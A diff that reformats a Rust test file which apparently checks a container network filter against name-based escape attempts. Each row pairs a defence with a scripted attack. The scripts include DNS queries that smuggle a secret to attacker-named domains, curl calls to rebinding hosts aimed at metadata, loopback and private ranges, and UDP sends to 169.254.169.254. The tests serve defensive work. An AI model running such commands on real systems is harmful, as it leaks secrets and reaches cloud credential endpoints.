@@ -1,4 +1,5 @@
-//! Names: the way out for those who have no address to talk to, and the disguise for those who have.
+//! Names: the way out for those who have no address to talk to, and the disguise for those who
+//! have.
 
 use std::net::SocketAddr;
 
@@ -14,7 +15,8 @@ pub(crate) const ROWS: &[Row] = &[
         defence: "a denied name is answered here, and nobody is asked; the server that the container chose is never asked",
         script: |scene| {
             let secret = &scene.secret;
-            let servers = [scene.target(), resolver(scene)].map(|server| SocketAddr::new(server, 53));
+            let servers =
+                [scene.target(), resolver(scene)].map(|server| SocketAddr::new(server, 53));
             let names = ["denied.test", "attacker.test", "allowed.test", "test"];
             let asks = servers.iter().flat_map(|server| {
                 names.iter().flat_map(move |name| {
@@ -32,7 +34,9 @@ pub(crate) const ROWS: &[Row] = &[
         defence: "the proxy asks the host's resolvers only, wherever the question was sent",
         script: |scene| {
             let server = SocketAddr::new(scene.target(), 53);
-            ["udp", "tcp"].map(|how| format!("attacker dns {how} {server} {}.wild.test", scene.secret)).join("; ")
+            ["udp", "tcp"]
+                .map(|how| format!("attacker dns {how} {server} {}.wild.test", scene.secret))
+                .join("; ")
         },
         counts: Counts::AtTheAttackers,
         ..ROW
@@ -79,8 +83,10 @@ pub(crate) const ROWS: &[Row] = &[
         defence: "special ranges are never dialled, whatever name led there",
         script: |scene| {
             let names = ["metadata", "loopback", "private"];
-            let tries = names.map(|name| format!("curl -sS -m 2 http://{name}.rebind.test/{}", scene.secret));
-            // Without the filter nobody answers there; datagrams show that the addresses are reached for.
+            let tries = names
+                .map(|name| format!("curl -sS -m 2 http://{name}.rebind.test/{}", scene.secret));
+            // Without the filter nobody answers there; datagrams show that the addresses are
+            // reached for.
             format!(
                 "{}; for address in 169.254.169.254 10.1.2.3; do attacker send udp $address:80 {}; done",
                 tries.join("; "),
